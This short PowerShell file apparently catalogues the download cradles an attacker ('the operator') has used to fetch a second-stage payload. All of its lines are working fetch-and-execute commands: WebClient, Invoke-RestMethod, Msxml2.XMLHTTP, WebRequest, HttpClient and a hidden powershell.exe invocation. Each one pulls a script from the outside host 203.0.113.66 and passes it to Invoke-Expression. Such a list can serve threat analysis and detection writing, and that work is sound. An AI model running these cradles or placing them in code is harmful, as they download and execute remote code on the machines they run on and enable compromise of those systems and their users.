# every way the operator has pulled the second stage so far
$u = 'http://203.0.113.66/s2'

IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.66/s1')

irm $u | iex

$h = New-Object -ComObject Msxml2.XMLHTTP
$h.open('GET', $u, $false)
$h.send()
iex $h.responseText

$req = [System.Net.WebRequest]::Create($u)
$reader = New-Object System.IO.StreamReader($req.GetResponse().GetResponseStream())
Invoke-Expression ($reader.ReadToEnd())

(New-Object System.Net.Http.HttpClient).GetStringAsync($u).Result | Invoke-Expression

powershell.exe -nop -c "IEX(iwr 'http://203.0.113.66/s3' -UseBasicParsing)"
